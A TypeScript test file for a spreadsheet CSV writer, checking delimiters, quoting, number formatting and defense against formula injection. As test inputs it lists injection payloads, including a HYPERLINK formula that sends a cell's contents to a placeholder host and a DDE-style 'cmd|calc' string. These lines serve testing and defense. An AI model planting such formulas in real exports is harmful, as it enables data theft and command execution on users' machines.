import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvFile } from './csv.ts';

// fast-check's own unit for this takes a second to set up. Half a surrogate pair has no UTF-8.
const anyCharacter = fc.integer({ min: 0, max: 0x10_ff_ff }).map((point) => String.fromCodePoint(point).toWellFormed());

function read(file: string): string[][] {
  return parse(file, { bom: true, delimiter: ';', recordDelimiter: '\r\n', skipEmptyLines: false });
}

/** The value that a spreadsheet shows: only text that would run as a formula is changed, and only by the apostrophe. */
function asCell(value: string | number | null): string {
  if (value === null) return '';
  if (typeof value === 'number') return String(value).replace('.', ',');
  return '=+-@\t\r\n＝＋－＠'.includes(value.charAt(0) || 'x') ? `'${value}` : value;
}

describe('a table for spreadsheets', () => {
  test('begins with the byte order mark, parts by semicolons and ends every row with CRLF', () => {
    const file = csvFile(
      ['Kod', 'Belopp', 'Kund'],
      [
        ['ND9J34', 149.5, 'åsa@exempel.se'],
        ['BCDFGH', -298, null],
      ],
    );
    expect(file).toBe('\uFEFFKod;Belopp;Kund\r\nND9J34;149,5;åsa@exempel.se\r\nBCDFGH;-298;\r\n');
  });

  test('without rows it is the header', () => {
    expect(csvFile(['Kod'], [])).toBe('\uFEFFKod\r\n');
  });

  test.each([
    ['a;b', '"a;b"'],
    ['sa "ja"', '"sa ""ja"""'],
    ['två\nrader', '"två\nrader"'],
    ['två\r\nrader', '"två\r\nrader"'],
    ['1,5', '1,5'],
    [' a ', ' a '],
    ['', ''],
  ])('the text %j is written as %j', (text, written) => {
    expect(csvFile([], [[text]])).toBe(`\uFEFF\r\n${written}\r\n`);
  });

  test.each([
    '=HYPERLINK("http://x.example/?"&A1)',
    '+46701234567',
    '-1+cmd|calc',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
  ])('%j stays text, as a header too', (text) => {
    expect(read(csvFile([text], [[text]]))).toEqual([[`'${text}`], [`'${text}`]]);
  });

  test.each([
    [-12, '-12'],
    [0.1, '0,1'],
    [-0, '0'],
    [1_234_567.89, '1234567,89'],
    [1e-7, '1e-7'],
    [1.5e21, '1,5e+21'],
  ])('the number %d is written as %s and left a number', (value, written) => {
    expect(csvFile([], [[value]])).toBe(`\uFEFF\r\n${written}\r\n`);
  });

  test.each([Number.NaN, Number.POSITIVE_INFINITY])('%s has no place in a table', (value) => {
    expect(() => csvFile(['Belopp'], [[value]])).toThrow(RangeError);
  });

  test('every table reads back as it was', () => {
    const odd = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ';', ',', "'", '\uFEFF', 'å', '😀');
    const text = fc.oneof(fc.string({ unit: anyCharacter }), fc.string({ unit: odd }));
    const number = fc.double({ noNaN: true, noDefaultInfinity: true });
    const value = fc.oneof(text, number, fc.integer(), fc.constant(null));
    const table = fc
      .integer({ min: 1, max: 5 })
      .chain((width) =>
        fc.record({
          header: fc.array(text, { minLength: width, maxLength: width }),
          rows: fc.array(fc.array(value, { minLength: width, maxLength: width }), { maxLength: 5 }),
        }),
      );
    fc.assert(
      fc.property(table, ({ header, rows }) => {
        expect(read(csvFile(header, rows))).toEqual([header, ...rows].map((row) => row.map(asCell)));
      }),
    );
  });
});
